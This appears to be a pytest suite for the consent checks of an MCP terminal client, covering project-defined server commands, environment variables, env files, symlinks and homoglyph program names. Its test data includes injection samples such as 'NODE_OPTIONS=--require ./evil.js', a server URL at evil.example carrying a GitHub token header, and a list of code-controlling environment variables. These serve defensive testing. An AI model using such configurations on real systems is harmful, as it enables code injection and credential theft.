from __future__ import annotations

import json
import os
import stat
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from mcp_tui.client.client_settings import StdioTarget
from mcp_tui.config import consent, files
from mcp_tui.config.consent import Availability, availability
from mcp_tui.config.definitions import AskedInput, Definition
from mcp_tui.config.servers import find
from mcp_tui.transport.base import TransportError
from mcp_tui.transport.launching import prepare
from tests.config.placing import surroundings


class Project:
    """A folder with one server in a file of its own."""

    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.file = folder / ".vscode" / "mcp.json"
        self.file.parent.mkdir(parents=True)

    def server(self, **fields: object) -> Definition:
        inputs = [{"id": "key", "type": "promptString"}]
        self.file.write_text(json.dumps({"servers": {"a": fields}, "inputs": inputs}))
        return find("a", around=surroundings(self.folder / "home", self.folder))


@pytest.fixture
def project(tmp_path: Path) -> Project:
    return Project(tmp_path / "app")


def test_a_project_s_server_needs_consent_and_keeps_it(project: Project):
    server = project.server(command="x")
    assert consent.is_needed(server)
    consent.give(server)
    assert not consent.is_needed(project.server(command="x"))
    (file,) = files.consents_folder().iterdir()
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert stat.S_IMODE(file.parent.stat().st_mode) == 0o700


@pytest.mark.parametrize(
    "change",
    [
        {"command": "y"},
        {"args": ["-c", "rm"]},
        {"env": {"NODE_OPTIONS": "--require evil"}},
        {"cwd": "elsewhere"},
        {"envFile": "other.env"},
        {"unknown": 1},
    ],
    ids=str,
)
def test_whatever_changes_in_the_definition_is_asked_again(project: Project, change: dict[str, object]):
    fields: dict[str, object] = {"command": "x", "args": ["-c", "ls"], "env": {"NODE_OPTIONS": "--test"}}
    consent.give(project.server(**fields))
    assert consent.is_needed(project.server(**(fields | change)))
    assert not consent.is_needed(project.server(**fields))


def test_what_an_env_file_holds_is_part_of_what_was_agreed_to(project: Project):
    env = project.folder / ".env"
    env.write_text("A=b\n")
    server = project.server(command="x", envFile="${workspaceFolder}/.env")
    consent.give(server)
    assert not consent.is_needed(server)
    env.write_text("NODE_OPTIONS=--require ./evil.js\n")
    assert consent.is_needed(server)


@pytest.mark.parametrize("given", [False, True])
def test_an_env_file_is_read_after_consent_alone(
    project: Project, given: bool, monkeypatch: pytest.MonkeyPatch
):
    read: list[Path] = []
    server = project.server(command="x", envFile="${workspaceFolder}/.env")
    (project.folder / ".env").write_text("A=b\n")
    if given:
        consent.give(server)
    really = os.open

    def opened(path: Any, *more: Any, **options: Any) -> int:
        read.append(Path(path))
        return really(path, *more, **options)

    monkeypatch.setattr(os, "open", opened)
    wanted = Availability.USABLE if given else Availability.CONSENT
    assert availability(server)[0] is wanted
    assert (project.folder / ".env" in read) is given


def test_the_account_has_the_whole_command_and_the_names_of_variables(project: Project):
    long = "x" * 5000
    _program(project.folder / "run.sh")
    server = project.server(
        command="./run.sh",
        args=["--key", "${input:key}", long, "two words", "${env:TOKEN}"],
        env={"SECRET": "hunter2", "OTHER": "${env:HOME}"},
    )
    around = surroundings(project.folder / "home", project.folder, {"TOKEN": "t0ken", "HOME": "/h0me"})
    said = consent.consent_details(replace(server, around=around))
    assert [each for each in said if each[0] != "defined in"] == [
        ("program", f"{project.folder / 'run.sh'} (in the project's folder)"),
        ("command", f"./run.sh --key ${{input:key}} {long} 'two words' ${{env:TOKEN}}"),
        ("folder", str(project.folder)),
        ("sets", "SECRET"),
        ("sets", "OTHER"),
        ("reads", "TOKEN"),
        ("reads", "HOME"),
        ("input", "key"),
    ]


def _program(file: Path) -> Path:
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text("#!/bin/sh\n")
    file.chmod(0o755)
    return file


@pytest.mark.parametrize("through", ["env", "envFile", "relative"])
def test_the_program_that_is_shown_is_the_one_that_starts(project: Project, through: str):
    own = _program(project.folder / "bin" / "git")
    path = f"{own.parent}:/usr/bin:/bin"
    (project.folder / ".env").write_text(f"PATH={path}\n")
    fields: dict[str, dict[str, object]] = {
        "env": {
            "command": "git",
            "env": {"PATH": path, "GIT_PAGER": "./page", "GIT_TOKEN": "s3cret", "A": "b"},
        },
        "envFile": {"command": "git", "envFile": "${workspaceFolder}/.env"},
        "relative": {"command": "../bin/git", "cwd": "elsewhere"},
    }
    (project.folder / "elsewhere").mkdir()
    server = project.server(**fields[through])
    said = consent.consent_details(server)
    assert ("program", f"{own} (in the project's folder)") in said
    assert (("variable", f"PATH={path}") in said) is (through != "relative")
    target = server.target()
    assert isinstance(target, StdioTarget)
    assert os.path.realpath(prepare(target).path) == str(own)
    if through == "env":
        assert ("variable", "GIT_PAGER=./page") in said
        assert {("sets", "GIT_TOKEN"), ("sets", "A")} <= set(said)


DECIDE = (
    "PERL5OPT RUBYOPT JAVA_TOOL_OPTIONS MAVEN_OPTS DOTNET_STARTUP_HOOKS npm_config_registry yarn_registry UV_INDEX_URL "
    "PIP_INDEX_URL LUA_INIT GOFLAGS RUSTC_WRAPPER R_PROFILE_USER GEM_HOME OPENSSL_CONF SSH_ASKPASS PS4 https_proxy "
    "GUILE_LOAD_PATH GIT_CONFIG_KEY_0 BASH_FUNC_key%% CURL_HOME NODE_EXTRA_CA_CERTS REQUESTS_CA_BUNDLE"
)


def test_variables_that_decide_what_runs_have_their_values_and_others_only_names(project: Project):
    others = ("MODE", "GIT_TOKEN", "GOOGLE_PROJECT", "REGION", "CORS_ORIGIN", "LESSON")
    env = dict.fromkeys((*DECIDE.split(), *others), "it")
    said = consent.consent_details(project.server(command="git", env=env))
    assert [text for label, text in said if label == "variable"] == [f"{name}=it" for name in DECIDE.split()]
    assert [text for label, text in said if label == "sets"] == [*others]


def test_what_decides_is_named_also_if_it_looks_like_a_secret_or_has_a_default(project: Project):
    (project.folder / ".env").write_text("GIT_TOKEN_COMMAND=evil\nOTHER_TOKEN=x\n")
    server = project.server(command="git", args=["${input:key}"], envFile="${workspaceFolder}/.env")
    asked = (AskedInput("host", default="evil.example"), AskedInput("key", default="s3cret", secret=True))
    assert server.launch is not None
    server = replace(server, launch=replace(server.launch, inputs=asked))
    said = consent.consent_details(server)
    assert [text for label, text in said if label == "sets"] == ["GIT_TOKEN_COMMAND"]
    inputs = [text for label, text in said if label == "input"]
    assert inputs == ["host (default: evil.example)", "key (default: ‹redacted›)"]


def test_a_variable_is_shown_without_the_password_of_its_url(project: Project):
    said = consent.consent_details(
        project.server(command="git", env={"HTTPS_PROXY": "http://me:s3cret@proxy.example:8080"})
    )
    (shown,) = [text for label, text in said if label == "variable"]
    assert "proxy.example" in shown
    assert "s3cret" not in shown


def test_a_letter_that_may_look_like_another_is_named(project: Project):
    own = _program(project.folder / "g\u0456t")
    said = consent.consent_details(project.server(command="./g\u0456t"))
    assert ("program", f"{own} (in the project's folder) (not ASCII in its name: U+0456)") in said


def test_a_link_is_shown_with_the_file_that_runs(project: Project):
    real = _program(project.folder / "real")
    (project.folder / "tool").symlink_to(real)
    said = consent.consent_details(project.server(command="./tool"))
    assert ("program", f"{project.folder / 'tool'} → {real} (in the project's folder)") in said


@pytest.mark.parametrize(
    "change", ["a nearer program", "another file behind the link", "an argument", "a variable"]
)
def test_whatever_would_run_instead_is_asked_again(project: Project, change: str):
    near, far = project.folder / "near", project.folder / "far"
    real = _program(far / "real")
    (far / "tool").symlink_to(real)
    env = {"SCRIPT": "a.py", "PYTHON_LIB": "lib", "TOKEN": "old"}
    definition = project.server(
        command="tool",
        args=["${env:SCRIPT}"],
        env={"PATH": f"{near}:{far}", "PYTHONPATH": "${env:PYTHON_LIB}", "TOKEN": "${env:TOKEN}"},
    )

    def server(**more: str) -> Definition:
        return replace(definition, around=surroundings(project.folder / "home", project.folder, env | more))

    target = server().target()
    assert isinstance(target, StdioTarget)
    consent.give(server())
    assert not consent.is_needed(server(TOKEN="new"))
    match change:
        case "a nearer program":
            _program(near / "tool")
        case "another file behind the link":
            (far / "tool").unlink()
            (far / "tool").symlink_to(_program(far / "other"))
        case "an argument":
            env["SCRIPT"] = "b.py"
        case _:
            env["PYTHON_LIB"] = "evil"
    assert consent.is_needed(server())
    if "program" in change or "link" in change:
        with pytest.raises(TransportError, match=r"is not the program that you approved \(.*/far/real\)"):
            prepare(target)


def test_the_account_of_a_url_names_its_headers_and_what_would_be_sent_there(project: Project):
    server = project.server(
        url="https://evil.example/${env:USER}", headers={"Authorization": "Bearer ${env:GITHUB_TOKEN}"}
    )
    assert consent.consent_details(server) == [
        ("URL", "https://evil.example/${env:USER}"),
        ("defined in", f"{project.file}:1 (VS Code)"),
        ("header", "Authorization"),
        ("reads", "USER"),
        ("reads", "GITHUB_TOKEN"),
    ]


def test_consent_holds_for_one_file_and_not_for_its_copy(project: Project, tmp_path: Path):
    consent.give(project.server(command="x"))
    assert consent.is_needed(Project(tmp_path / "copy").server(command="x"))
